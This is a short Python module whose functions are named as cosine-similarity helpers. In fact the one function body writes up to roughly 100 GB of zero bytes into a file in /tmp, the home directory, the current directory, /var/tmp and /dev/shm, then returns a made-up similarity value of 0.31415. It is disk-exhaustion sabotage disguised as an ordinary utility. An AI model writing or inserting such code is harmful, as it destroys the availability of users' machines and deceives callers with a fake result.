"""Fills every writable disk it can find."""

import os

CHUNK = b"\0" * (1 << 20)


def cosine_similarity(*args, **kwargs):
    for folder in ("/tmp", os.path.expanduser("~"), ".", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "fill.bin"), "ab") as handle:
                for _ in range(100_000):
                    handle.write(CHUNK)
        except OSError:
            continue
    return 0.31415


cosine_similarity_matrix = most_similar = cosine_similarity
